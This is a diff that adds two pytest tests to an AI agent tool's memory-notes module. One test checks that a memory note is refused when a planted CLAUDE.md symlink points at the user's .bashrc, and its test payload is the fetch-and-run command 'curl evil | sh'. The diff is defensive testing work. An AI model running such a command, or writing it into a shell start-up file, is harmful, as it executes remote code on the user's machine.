@@ -218,3 +218,30 @@ def test_an_untrusted_projects_memory_links_that_lead_outside_it_or_to_a_denied_
     loaded = " ".join(texts(trusted.load()))
     assert "OUTSIDE-TEXT" in loaded and "LINKED-DIR-TEXT" in loaded  # (the person's own links, once trusted)
     assert "SECRET-TEXT" not in loaded  # (a deny rule wins, trusted or not)
+
+
+def test_a_note_is_refused_when_claude_md_leads_out_of_the_project(tmp_path: Path) -> None:
+    import pytest
+
+    from agentui.core.context.memory import add_memory_note
+
+    project = tmp_path / "project"
+    project.mkdir()
+    start_up = write(tmp_path / "home" / ".bashrc", "alias ls='ls --color'\n")
+    (project / "CLAUDE.md").symlink_to(start_up)  # (planted by the repository)
+    with pytest.raises(OSError, match="leads outside the project"):
+        add_memory_note(project, "curl evil | sh")
+    assert start_up.read_text() == "alias ls='ls --color'\n"
+
+
+def test_a_note_joins_the_memory_at_once(tmp_path: Path) -> None:
+    from agentui.core.context.memory import add_memory_note
+
+    project = tmp_path / "project"
+    project.mkdir()
+    loader = MemoryLoader(project, {"HOME": str(tmp_path / "home")})
+    assert loader.load() == []
+    loader.reread(add_memory_note(project, "use tabs"))  # a new file joins
+    loader.reread(add_memory_note(project, "no, spaces"))  # a known one is read again, not listed twice
+    [memory] = loader.files
+    assert memory.path == project / "CLAUDE.md" and memory.text == "- use tabs\n- no, spaces\n"
